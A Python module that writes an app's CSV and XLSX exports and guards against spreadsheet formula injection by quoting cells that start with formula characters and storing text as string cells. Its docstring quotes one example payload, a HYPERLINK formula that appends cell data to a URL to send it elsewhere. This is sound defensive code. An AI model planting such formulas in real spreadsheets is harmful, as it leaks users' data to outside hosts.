"""The one writer of every CSV and XLSX file the app hands out.

Cells hold what people typed (names, entry titles, judges' comments, organizations, answers), and a
spreadsheet program runs a text cell that starts with `=`, `+`, `-` or `@` as a formula: a title such as
`=HYPERLINK("http://…"&D2,"Open deck")` would send the organizer's data elsewhere with one click.
So every text cell is neutralized here (api.md: prefixed with `'`, plain numbers such as `+84912345678`
excepted; a leading tab or carriage return too, as OWASP advises, since some programs skip them before
reading a formula). In XLSX a text cell is also stored as a string cell, never a formula, whatever it
holds, and the other cells keep their type: numbers as numbers, dates as real dates in the event's time
zone (naive, as Excel wants, with a number format), so that organizers can sort, sum and filter.

Two audiences, two formats. The CSV is for other programs: codes (`confirmed`, `+84912345678`) and
the columns api.md lists, unchanged. The XLSX is for people: every sheet is written as a table by
`write_table` – headers in the reader's language (the caller translates them), enumerations as labels,
phones as people write them (`phone`: 0912 345 678), dates and times as real date cells in dd/mm/yyyy
(hh:mm), numbers as numbers, yes/no as words, columns as wide as their content (within bounds), the
header row frozen and an auto-filter over the table.

Writers: `csv_bytes` / `csv_text` for CSV; `people_xlsx` (one sheet) or `new_workbook` + `write_table`
(+ `add_sheet`) + `workbook_bytes` for XLSX. `unneutralize` undoes the prefix for files that come back
(the floor plan's CSV round trip).
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from zoneinfo import ZoneInfo

from flask_babel import gettext as _
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from .vietnamese import format_phone

# Plain numbers (api.md: `+84912345678`, `-12`) pass unquoted in every file. The XLSX for people also
# lets phones as written abroad pass ("+44 20 7946 0958", "+1 202-555-0123"): its text cells are string
# cells, never run, so they keep their look; the CSV, which another program may run, quotes them.
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*$")
_WRITTEN_NUMBER = re.compile(r"^(?:[+-]?\d+(?:[.,]\d+)*|\+\d+(?:[ -]\d+)*)$")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
DATE_FORMAT = "dd/mm/yyyy"
TIME_FORMAT = "hh:mm"
DECIMAL_FORMAT = "0.00"
MIN_WIDTH, MAX_WIDTH = 8, 60  # a column's width in characters, fitted to its content within these
_EXCEL_MAX_TEXT = 32_767  # characters in one cell; Excel refuses to open a file with more
_BOLD = Font(bold=True)


def _needs_quote(text: str, numbers: re.Pattern = _PLAIN_NUMBER) -> bool:
    """Would run as a formula – or already looks neutralized (`'=…`), so that a quote is added there too
    and `unneutralize` gives back exactly what was written."""
    if text.startswith(FORMULA_START):
        return not numbers.match(text)
    return text.startswith("'") and _needs_quote(text.lstrip("'"), numbers)


def neutralize(value, *, written_numbers: bool = False):
    """Text that a spreadsheet would run as a formula gets a leading quote (plain numbers pass; with
    `written_numbers`, for XLSX string cells only, phones such as "+1 202-555-0123" too)."""
    if isinstance(value, str) and _needs_quote(value, _WRITTEN_NUMBER if written_numbers else _PLAIN_NUMBER):
        return "'" + value
    return value


def unneutralize(value: str) -> str:
    """The text `neutralize` was given (for CSV files the app wrote and now reads back)."""
    if value.startswith("'") and _needs_quote(value[1:]):
        return value[1:]
    return value


# --- CSV --------------------------------------------------------------------------------------------

def _csv_cell(value, tz) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "x" if value else ""
    if isinstance(value, datetime):
        return _naive(value, tz).strftime("%d/%m/%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    if isinstance(value, int | float | Decimal):
        return value
    return neutralize(str(value))


def csv_text(header: Sequence, rows: Iterable[Sequence], *, tz: ZoneInfo | str | None = None) -> str:
    """A CSV document, every cell neutralized (the header too: it may hold organizers' labels)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in (header, *rows) if header else rows:
        writer.writerow([_csv_cell(value, tz) for value in row])
    return buffer.getvalue()


def csv_bytes(header: Sequence, rows: Iterable[Sequence], *, tz: ZoneInfo | str | None = None) -> bytes:
    """UTF-8 with a BOM, so that Excel reads the Vietnamese letters right."""
    return "\ufeff".encode() + csv_text(header, rows, tz=tz).encode("utf-8")


# --- XLSX -------------------------------------------------------------------------------------------

def _zone(tz) -> ZoneInfo | None:
    return ZoneInfo(tz) if isinstance(tz, str) else tz


def _naive(value: datetime, tz) -> datetime:
    """A moment as the wall-clock time of `tz` (the event's), without tzinfo: Excel has no zones."""
    zone = _zone(tz)
    if value.tzinfo is not None and zone is not None:
        value = value.astimezone(zone)
    return value.replace(tzinfo=None)


def _text(value: str) -> str:
    """Characters XML cannot carry become U+FFFD (openpyxl would refuse the whole file)."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)[:_EXCEL_MAX_TEXT]


def set_value(cell: Cell, value, *, tz=None, bold: bool = False, written_numbers: bool = False) -> Cell:
    """Gives a cell its typed value: text (neutralized, a string cell), number, date/time or empty."""
    if value is None:
        cell.value = None
    elif isinstance(value, bool):
        cell.value = value
    elif isinstance(value, int | float | Decimal):
        number = float(value) if isinstance(value, Decimal) else value
        cell.value = None if isinstance(number, float) and not math.isfinite(number) else number
    elif isinstance(value, datetime):
        cell.value = _naive(value, tz)
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell.value = value
        cell.number_format = DATE_FORMAT
    elif isinstance(value, time):
        cell.value = value.replace(tzinfo=None)
        cell.number_format = TIME_FORMAT
    else:
        cell.value = _text(neutralize(str(value), written_numbers=written_numbers))
        cell.data_type = "s"  # openpyxl makes any str starting with "=" a formula; this never is one
    if bold:
        cell.font = _BOLD
    return cell


def append_row(sheet, values: Sequence, *, tz=None, bold: bool = False) -> None:
    """Adds a row of typed cells under the last one."""
    sheet.append([set_value(Cell(sheet), value, tz=tz, bold=bold) for value in values])


def new_workbook(title: str) -> tuple[Workbook, object]:
    """A workbook and its first sheet, named `title` (Excel allows 31 characters, no []:*?/\\)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(title)
    return workbook, sheet


def add_sheet(workbook: Workbook, title: str):
    return workbook.create_sheet(sheet_title(title))


def sheet_title(title: str) -> str:
    return re.sub(r"[\[\]:*?/\\]", " ", _text(str(title)))[:31].strip("' ") or "Sheet"


def workbook_bytes(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(title: str, header: Sequence, rows: Iterable[Sequence], *, tz=None) -> bytes:
    """A one-sheet workbook: a bold header, then typed rows, as they are (`people_xlsx` for people)."""
    workbook, sheet = new_workbook(title)
    append_row(sheet, header, bold=True)
    for row in rows:
        append_row(sheet, row, tz=tz)
    return workbook_bytes(workbook)


# --- XLSX for people ---------------------------------------------------------------------------------

def phone(e164: str | None) -> str:
    """A stored phone as people write it: 0912 345 678 (Vietnamese), +44 20 7946 0958 (abroad)."""
    return format_phone(e164)


def yes_no(value: bool | None) -> str:
    return "" if value is None else (_("Yes") if value else _("No"))


def _width(value) -> int:
    """How many characters a typed value takes on screen (its longest line for text)."""
    if value is None:
        return 0
    if isinstance(value, datetime):
        return len("00/00/0000 00:00")
    if isinstance(value, date):
        return len("00/00/0000")
    if isinstance(value, time):
        return len("00:00")
    if isinstance(value, float | Decimal):
        return len(f"{value:.2f}")
    text = str(value)
    return max(len(line) for line in text.splitlines()) if "\n" in text else len(text)


def write_table(sheet, header: Sequence, rows: Iterable[Sequence], *, tz=None) -> int:
    """A table for people under what `sheet` already holds (a title, say): a bold header, then typed
    rows (text neutralized, numbers as numbers, decimals shown with two places, yes/no as words, dates
    in `tz` with a dd/mm/yyyy (hh:mm) format). The header row is frozen, an auto-filter covers the
    table and every column is as wide as its longest cell, between MIN_WIDTH and MAX_WIDTH characters.
    Returns the number of rows written."""
    widths = [_width(value) + 2 for value in header]  # bold letters are wider
    append_row(sheet, header, bold=True)
    top = sheet.max_row  # the header's row: the first, or under a title
    count = 0
    for row in rows:
        values = [yes_no(value) if isinstance(value, bool) else value for value in row]
        cells = [set_value(Cell(sheet), value, tz=tz, written_numbers=True) for value in values]
        for cell, value in zip(cells, values, strict=True):
            if isinstance(value, float | Decimal) and cell.value is not None:
                cell.number_format = DECIMAL_FORMAT
        sheet.append(cells)
        if len(values) > len(widths):
            widths.extend([0] * (len(values) - len(widths)))
        for index, value in enumerate(values):
            widths[index] = max(widths[index], _width(value))
        count += 1
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 1, MIN_WIDTH), MAX_WIDTH)
    last = get_column_letter(max(len(widths), 1))
    sheet.freeze_panes = f"A{top + 1}"
    sheet.auto_filter.ref = f"A{top}:{last}{top + count}"
    return count


def people_xlsx(title: str, header: Sequence, rows: Iterable[Sequence], *, tz=None) -> bytes:
    """A one-sheet workbook for people: the table of `write_table`."""
    workbook, sheet = new_workbook(title)
    write_table(sheet, header, rows, tz=tz)
    return workbook_bytes(workbook)
